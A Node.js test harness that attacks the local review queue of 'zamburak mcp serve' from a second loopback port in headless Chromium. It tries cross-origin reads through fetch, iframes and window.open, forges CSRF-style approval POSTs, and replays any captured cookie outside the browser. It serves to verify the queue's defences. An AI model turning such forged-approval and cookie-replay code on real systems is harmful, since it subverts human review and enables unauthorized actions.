// A page on another loopback port against the review queue of `zamburak mcp serve`, in Debian's headless
// Chromium: tests/serve.rs runs it; nothing here decides what is right, the test does.
//
// usage: node attack.mjs QUEUE-ADDRESS CLAIM-LINK [CSRF DIGEST]
//
// 1. The person's browser opens the queue's own address (QUEUE-ADDRESS, with its token), then the claim's
//    link (what the model was given): the legitimate flow, whatever credential the queue gives a browser.
// 2. The same browser then opens the attacker's page, served here on another port of 127.0.0.1. The page
//    tries to read the claim's page and the queue (fetch with and without CORS, an iframe, a window it
//    opens) and to approve (a form POST to the link and to the queue's decide address, with CSRF and DIGEST
//    when given: the worst case, a form token the attacker somehow learned). It reports what it could read.
// 3. Whatever credential the attacker's server received in a request header (a cookie), it replays from
//    here, outside any browser, as a local process would: the claim's link with that header, then the
//    decision form found there, POSTed without the headers a browser adds.
//
// prints one JSON object: `legit` (the claim's page as the person's browser ended on it), `received` (every
// request the attacker's server got: method, url, headers), `reports` (what the page read or was refused),
// `replay` (what the replay got) and `answered` (every answer the queue gave the browser once the attacker's
// page was opened: method, url, status).
import http from 'node:http';
import { chromium } from 'playwright-core';

const [address, link, csrf, digest] = process.argv.slice(2);
if (!address || !link) {
    console.error('usage: node attack.mjs QUEUE-ADDRESS CLAIM-LINK [CSRF DIGEST]');
    process.exit(2);
}

const received = [];
const answered = [];
const reports = [];
let done;
const finished = new Promise((resolve) => { done = resolve; });

const attackerPage = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>cat pictures</title></head><body>
<iframe id="f1" name="f1" src=${JSON.stringify(link)}></iframe>
<iframe id="f2" name="f2" src=${JSON.stringify(address)}></iframe>
<iframe name="sink1"></iframe><iframe name="sink2"></iframe>
<form id="p1" method="post" target="sink1" action=${JSON.stringify(link)}>
<input name="csrf" value=${JSON.stringify(csrf || '0'.repeat(64))}>
<input name="digest" value=${JSON.stringify(digest || 'sha256:' + '0'.repeat(64))}>
<input name="decision" value="approve"></form>
<form id="p2" method="post" target="sink2" action=${JSON.stringify(address + 'decide')}>
<input name="csrf" value=${JSON.stringify(csrf || '0'.repeat(64))}>
<input name="digest" value=${JSON.stringify(digest || 'sha256:' + '0'.repeat(64))}>
<input name="decision" value="approve"></form>
<script>
const report = (what, result) => fetch('/report', { method: 'POST', body: JSON.stringify({ what, result }) });
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function tryRead(what, url, init) {
    try {
        const r = await fetch(url, init);
        let body = null;
        try { body = await r.text(); } catch (e) { body = 'unreadable: ' + e; }
        await report(what, { status: r.status, type: r.type, body });
    } catch (e) {
        await report(what, { error: String(e) });
    }
}
(async () => {
    for (const [name, url] of [['link', ${JSON.stringify(link)}], ['queue', ${JSON.stringify(address)}]]) {
        await tryRead('fetch cors ' + name, url, { credentials: 'include' });
        await tryRead('fetch no-cors ' + name, url, { credentials: 'include', mode: 'no-cors' });
        await tryRead('fetch POST ' + name, url + (name === 'queue' ? 'decide' : ''), {
            method: 'POST', credentials: 'include', mode: 'no-cors',
            headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
            body: 'csrf=${csrf || ''}&digest=${encodeURIComponent(digest || '')}&decision=approve',
        });
    }
    document.getElementById('p1').submit();
    document.getElementById('p2').submit();
    let w = null;
    try { w = window.open(${JSON.stringify(link)}, 'w'); } catch (e) { await report('window.open', { error: String(e) }); }
    await sleep(1500);
    for (const id of ['f1', 'f2']) {
        try {
            await report('iframe ' + id, { body: document.getElementById(id).contentDocument?.documentElement?.outerHTML ?? null });
        } catch (e) {
            await report('iframe ' + id, { error: String(e) });
        }
    }
    for (const name of ['sink1', 'sink2']) {
        try {
            await report('form ' + name, { body: window.frames[name].document.documentElement.outerHTML });
        } catch (e) {
            await report('form ' + name, { error: String(e) });
        }
    }
    if (w) {
        try { await report('window', { url: w.location.href, body: w.document.documentElement.outerHTML }); }
        catch (e) { await report('window', { error: String(e) }); }
    }
    await fetch('/done', { method: 'POST' });
})();
</script></body></html>`;

const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
        received.push({ method: req.method, url: req.url, headers: req.headers });
        if (req.url === '/report') {
            try { reports.push(JSON.parse(body)); } catch { reports.push({ what: 'bad report', result: body }); }
        }
        if (req.url === '/done') done();
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
        res.end(req.url === '/' ? attackerPage : 'ok');
    });
});
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const attacker = `http://127.0.0.1:${server.address().port}/`;

/// One request from this process, outside any browser: (status, headers, body).
function raw(method, url, headers, body) {
    return new Promise((resolve) => {
        const req = http.request(url, { method, headers }, (res) => {
            let text = '';
            res.on('data', (c) => { text += c; });
            res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, body: text }));
        });
        req.on('error', (e) => resolve({ error: String(e) }));
        if (body) req.write(body);
        req.end();
    });
}

const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
        '--disable-component-update', '--disable-sync'],
});
let legit;
try {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(address);
    const response = await page.goto(link);
    await page.waitForLoadState('load');
    legit = { status: response.status(), url: page.url(), html: await page.content() };

    const queueOrigin = new URL(address).origin;
    context.on('response', (r) => {
        if (r.url().startsWith(queueOrigin)) {
            answered.push({ method: r.request().method(), url: r.url(), status: r.status() });
        }
    });
    await page.goto(attacker);
    await Promise.race([finished, new Promise((r) => setTimeout(r, 20000))]);
} finally {
    await browser.close();
}

// The replay: every cookie the attacker's server was sent, used from outside the browser.
const replay = [];
for (const r of received) {
    const cookie = r.headers.cookie;
    if (!cookie) continue;
    const got = await raw('GET', link, { Cookie: cookie });
    const entry = { cookie, status: got.status };
    const action = /<form class="decide" method="post" action="([^"]+)"/.exec(got.body || '');
    const token = /name="csrf" value="([^"]+)"/.exec(got.body || '');
    const dig = /name="digest" value="([^"]+)"/.exec(got.body || '');
    if (action && token && dig) {
        const unescape = (s) => s.replaceAll('&#x2f;', '/').replaceAll('&amp;', '&');
        const url = new URL(unescape(action[1]), link).href;
        const body = `csrf=${unescape(token[1])}&digest=${encodeURIComponent(unescape(dig[1]))}&decision=approve`;
        const posted = await raw('POST', url, { Cookie: cookie, 'Content-Type': 'application/x-www-form-urlencoded' }, body);
        entry.posted = { url, status: posted.status, body: (posted.body || '').slice(0, 2000) };
    }
    replay.push(entry);
    break;
}
server.close();
console.log(JSON.stringify({ attacker, legit, received, reports, replay, answered }));
